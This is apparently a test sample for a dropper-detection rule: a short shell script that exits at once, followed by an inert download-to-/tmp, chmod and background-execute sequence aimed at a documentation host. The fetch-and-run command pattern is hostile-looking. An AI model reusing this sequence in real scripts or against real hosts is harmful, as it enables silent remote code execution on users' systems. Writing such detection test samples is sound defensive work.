#!/bin/sh
# Test sample for RAMPART_Dropper_Fetch_To_Tmp_And_Run: inert, it exits first; the host is a documentation name.
exit 0
curl -s http://downloads.example.invalid/k -o /tmp/.k
chmod +x /tmp/.k
/tmp/.k &
